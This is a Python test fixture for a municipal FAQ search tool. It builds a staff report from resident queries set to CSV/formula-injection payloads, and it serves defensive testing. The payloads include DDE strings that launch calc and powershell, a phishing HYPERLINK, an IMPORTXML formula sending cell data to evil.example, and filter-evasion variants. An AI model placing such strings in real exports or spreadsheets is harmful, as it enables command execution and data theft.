"""Text a spreadsheet could run as a formula (CSV/formula injection), and a staff report whose
residents' questions and learned phrasings are exactly these texts. Used by
tests/unit/test_report_formula_injection.py and scripts/reliability.py."""

from __future__ import annotations

from datetime import date, datetime

from madoguchi.clock import JST
from madoguchi.model import Faq, FaqWorkbook, LearnedPhrasing
from madoguchi.search import build_index
from madoguchi.searchlog import FEEDBACK, TopHit, new_event, new_search
from madoguchi.staff_report import build_report

PAYLOADS = (
    '=HYPERLINK("https://evil.example/login","【至急】住民税の還付手続きはこちら")',
    "=cmd|' /C calc'!A0",
    "+1+1 住民票",
    "-2+3 粗大ごみ",
    "@SUM(1+1) 児童手当",
    "\t=1+1 ごみ",
    "\r=1+1 税金",
    "＝1+1 国保",
    " =1+1 保育園",
    "=1+1\n=2+2 改行",
    "-cmd|'/C powershell'!A1",
    '@IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
)
LEARNED = PAYLOADS[:2]
MADE = datetime(2026, 3, 4, 0, 0, tzinfo=JST)
DAY = date(2026, 3, 2)
FAQS = (Faq("F001", "粗大ごみの出し方", "申込制です。"), Faq("F002", "住民票の写し", "窓口です。"))


def report_of(payloads: tuple[str, ...] = PAYLOADS) -> bytes:
    """A report where two residents sent each payload twice: unanswered, then answered and
    rated 役に立たなかった; the first two payloads are also learned phrasings."""
    records = []
    for n, payload in enumerate(payloads):
        for user in ("u1", "u2"):
            at = datetime(2026, 3, 2, 10, n, tzinfo=JST)
            later = datetime(2026, 3, 2, 11, n, tzinfo=JST)
            unanswered = new_search(
                now=at, user=user, query=payload, top=[], answered=False, retention_days=90
            )
            rated = new_search(
                now=later,
                user=user,
                query=payload,
                top=[TopHit("F001", 5.0)],
                answered=True,
                retention_days=90,
            )
            feedback = new_event(
                FEEDBACK,
                now=later,
                user=user,
                retention_days=90,
                faq_id="F001",
                helpful=False,
                search_id=rated.id,
            )
            records += [unanswered, rated, feedback]
    learned = [
        LearnedPhrasing(p, "F002", 2, 2, "2026-03-01T00:00:00Z", "2026-03-02T00:00:00Z")
        for p in LEARNED
    ]
    index = build_index(FaqWorkbook(faqs=FAQS), learned=learned)
    return build_report(records, index, DAY, DAY, generated_at=MADE)
